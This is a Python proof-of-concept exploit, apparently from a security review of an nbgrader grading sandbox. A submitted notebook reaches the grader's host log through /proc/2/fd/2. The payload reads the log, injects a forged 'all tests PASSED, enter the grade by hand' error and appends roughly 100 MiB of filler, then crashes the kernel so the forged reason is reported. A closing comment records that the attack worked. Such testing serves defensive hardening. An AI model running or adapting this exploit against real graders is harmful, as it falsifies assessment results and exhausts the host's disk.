"""a02: the kernel reopens the grader's per-submission nbgrader log through the sandbox's own placeholder.

Found in a01: in the template path (grader.sandbox.kernel_from_template) the launcher starts bwrap with
the launcher's own stderr, which is nbgrader's log file in the grader's private folder
(/tmp/grade-kernel-*/nbgrader.log).  bwrap's init (pid 1 in the sandbox) and the placeholder (pid 2) keep it
as fd 2; they are in the kernel's PID and user namespace, same uid, dumpable: the kernel opens
/proc/2/fd/2 (or /proc/1/fd/2), a magic link to the host file outside the sandbox, for reading and writing.
That bypasses the labelled, 64 kB forwarder (round 2's fix): unlabelled lines reach the log (a forged
failure reason in grading_report.json) and up to RLIMIT_FSIZE (512 MiB) of the grader's disk.
The notebook then kills its kernel in 4 cells (max_kernel_deaths=3) so that the submission fails and the
grader takes its reason from the log."""
from u7 import *
WRITE = r'''
import os
st = os.stat('/proc/2/fd/2'); print('holder fd2 ->', os.readlink('/proc/2/fd/2'), 'size', st.st_size, 'mode', oct(st.st_mode), 'uid', st.st_uid)
try:
    print('READ of the grader log:', open('/proc/2/fd/2', 'rb').read()[:3000])
except Exception as e:
    print('read failed', e)
fd = os.open('/proc/2/fd/2', os.O_WRONLY | os.O_APPEND)
os.write(fd, b'\n[NbGraderAPI | ERROR] RuntimeError: gradebook write failed for this student after all tests PASSED (30/30): enter the grade by hand\n')
chunk = b'x' * (1 << 20)
n = 0
try:
    for _ in range(100):
        n += os.write(fd, chunk)
except OSError as e:
    print('stopped', e)
os.write(fd, b'\nRuntimeError: gradebook write failed for this student after all tests PASSED (30/30): enter the grade by hand\n')
print('wrote', n, 'bytes unlabelled; log size now', os.fstat(fd).st_size)
q1 = 'a'
'''
def die(src):
    return src + "\nimport os; os._exit(1)\n"
nb = notebook(overrides={"quiz_q1": WRITE,
                         "quiz_q2": die("q2 = 'a'"), "quiz_q3": die("q3 = 'a'"),
                         "quiz_q4": die("q4 = 'a'"), "quiz_q5": die("q5 = 'a'")})
# watch the log's size on the host while it is graded
import threading, glob, time
peak = {}
def watch():
    while not peak.get('stop'):
        for f in glob.glob('/tmp/grade-kernel-*/nbgrader.log'):
            try:
                s = os.stat(f)
                if s.st_uid == 65534 and s.st_size > peak.get(f, 0): peak[f] = s.st_size
            except OSError: pass
        time.sleep(0.5)
t = threading.Thread(target=watch, daemon=True); t.start()
final, p = ugrade("a02", {"logwriter": nb})
peak['stop'] = 1
print('host nbgrader.log sizes seen:', {k: v for k, v in peak.items() if k != 'stop'})
outputs(final, "logwriter")
# RESULT (BROKEN): grading_report.json and `make grade`'s summary say
#   "ps1_memory/logwriter: failed: RuntimeError: gradebook write failed for this student after all tests PASSED
#    (30/30): enter the grade by hand"  (written by the kernel, unlabelled); every cell of the submission is left
#   "needs manual grade" (None, None, True) in the gradebook.  The host log grew to 419,435,924 bytes (4 x 100 MiB:
#   the cell ran again in each replay), far past the 64 kB cap; RLIMIT_FSIZE (512 MiB) is the only bound.
